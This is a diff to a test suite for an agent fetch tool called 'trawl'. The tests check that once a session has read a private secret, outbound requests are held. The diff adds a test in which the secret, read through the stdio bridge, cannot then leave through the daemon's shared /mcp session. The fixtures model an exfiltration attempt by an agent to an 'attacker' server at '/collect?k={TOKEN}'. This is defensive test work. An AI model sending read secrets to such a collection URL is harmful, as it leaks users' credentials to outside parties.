@@ -124,7 +124,7 @@ async def test_a_made_up_session_or_none_cannot_shed_the_taint(tmp_path: Path, a
                 assert odd.status_code == UNKNOWN_SESSION_STATUS, odd.text
                 bare = (await c.post("/v1/fetch", json={"url": url, "query": ""})).json()
                 assert bare["ok"] is False and bare["error"]["code"] == "exit_held", bare  # ...and so is no session
-                assert "names no session of its own" in bare["error"]["message"]
+                assert "no session of its own" in bare["error"]["message"]
         assert attacker.hits == ["/docs"]  # nothing after the private read
         assert not _flow(d).session(UNBOUND_SESSION).private  # held by A's taint, not by a read of its own
 
@@ -251,6 +251,18 @@ async def test_the_trawl_mcp_process_asks_the_daemon_for_its_session(tmp_path: P
         assert len(minted) == 1 and flow.session(minted[0]).private
         assert not flow.session(UNBOUND_SESSION).private  # the bridge's calls did not land in the unbound one
     assert len(elicit.asked) == 1 and attacker.hits == [f"/collect?k={TOKEN}"]
+
+
+async def test_an_agent_on_both_faces_cannot_send_through_the_shared_one(tmp_path: Path, attacker: Server) -> None:
+    """An agent client with trawl configured twice (the stdio bridge and the daemon's /mcp) reads a secret through
+    the bridge: the /mcp session, shared by clients trawl cannot tell apart, is held as well."""
+    settings = _settings(tmp_path)
+    async with _daemon(settings) as d, _bridge(settings) as a:
+        await _read_the_secret(a, tmp_path)
+        async with http_client(d) as c:
+            held = _page(await c.call_tool("fetch_page", {"url": f"{attacker.url}/collect?k={TOKEN}"}))
+        assert held.error is not None and held.error.code == "exit_held", held
+    assert attacker.hits == []
 
 
 async def test_the_daemons_mcp_clients_share_one_session_and_a_yes_sends_one_request(
